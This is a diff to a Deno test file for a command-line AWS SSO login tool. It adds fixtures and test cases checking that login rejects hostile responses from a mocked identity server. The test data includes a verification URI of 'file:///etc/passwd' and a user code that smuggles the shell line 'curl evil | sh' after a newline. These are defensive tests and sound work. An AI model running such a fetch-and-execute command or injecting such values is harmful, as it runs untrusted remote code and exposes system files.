@@ -62,6 +62,9 @@ const OLD_TOKEN = ".aws/sso/cache/40169cea58ca6cbf23fb27b2542923fb5f524af0.json"
 /** The names of the registrations, by botocore's `_registration_cache_key`. */
 const CORP_CLIENT = ".aws/sso/cache/2c9b92f98f95741ef059c774e9100511dc495947.json";
 
+/** A machine without a desktop, on every system. */
+const ELSEWHERE = { DISPLAY: "", SSH_CONNECTION: "192.0.2.1 5000 192.0.2.2 22" };
+
 interface Machine extends TestHostOptions {
   /** What the user does in the browser; absent: none opens. */
   readonly consent?: Consent | ((url: string) => Promise<void>);
@@ -84,10 +87,11 @@ function machine({ consent, ...options }: Machine = {}) {
     now: () => host.time,
     inForeground: () => Promise.resolve(true),
     launch({ args }) {
-      pages.push(args[0]!);
+      const first = args.at(-1)!;
+      pages.push(first);
       // The page on loopback that eac opens leads to the URL.
       browsing.push((async () => {
-        const page = await fetch(args[0]!, { redirect: "manual" });
+        const page = await fetch(first, { redirect: "manual" });
         await page.body?.cancel();
         const url = page.headers.get("location")!;
         opened.push(url);
@@ -204,7 +208,7 @@ Deno.test("login shows a code for another device without a desktop, or with --no
   const table: [name: string, argv: string[], env: Record<string, string>][] = [
     ["--no-browser", ["prod", "--no-browser"], {}],
     ["the AWS CLI's option", ["prod", "--use-device-code"], {}],
-    ["no desktop", ["prod"], { DISPLAY: "" }],
+    ["no desktop", ["prod"], ELSEWHERE],
   ];
   for (const [name, argv, env] of table) {
     await t.step(name, async () => {
@@ -233,6 +237,16 @@ Deno.test("login signs in a profile with its own sso_start_url by a code, in the
   assertEquals(JSON.parse(m.host.text(OLD_TOKEN)!).refreshToken, undefined);
   assertEquals((await m.eac("process", "old")).exit, 0);
 });
+
+/** An answer to RegisterClient and to StartDeviceAuthorization. */
+const STARTED = {
+  clientId: "c",
+  clientSecret: "s",
+  clientSecretExpiresAt: 4e9,
+  deviceCode: "d",
+  userCode: "ABCD-EFGH",
+  verificationUri: "https://example.com",
+};
 
 Deno.test("login says why IAM Identity Center signed nobody in, and caches nothing", async (t) => {
   const table: [
@@ -291,17 +305,16 @@ Deno.test("login says why IAM Identity Center signed nobody in, and caches nothi
     [
       "a page that is no web page",
       ({ oidc }) => {
-        oidc.failure = {
-          status: 200,
-          body: {
-            clientId: "c",
-            clientSecret: "s",
-            clientSecretExpiresAt: 4e9,
-            deviceCode: "d",
-            userCode: "A",
-            verificationUri: "file:///etc/passwd",
-          },
-        };
+        oidc.failure = { status: 200, body: { ...STARTED, verificationUri: "file:///etc/passwd" } };
+      },
+      ["prod", "--no-browser"],
+      6,
+      "incomplete",
+    ],
+    [
+      "a code that is a text",
+      ({ oidc }) => {
+        oidc.failure = { status: 200, body: { ...STARTED, userCode: "1\n$ curl evil | sh" } };
       },
       ["prod", "--no-browser"],
       6,
@@ -457,7 +470,7 @@ Deno.test("login takes the code that another device shows, and asks again for a 
 });
 
 Deno.test("login on another device needs a terminal for the code", async () => {
-  await using m = machine({ env: { DISPLAY: "" } });
+  await using m = machine({ env: ELSEWHERE });
   const { exit, stderr } = await m.eac("login", "mine");
   assertEquals(exit, 4, stderr);
   assertStringIncludes(stderr, "there is no terminal");
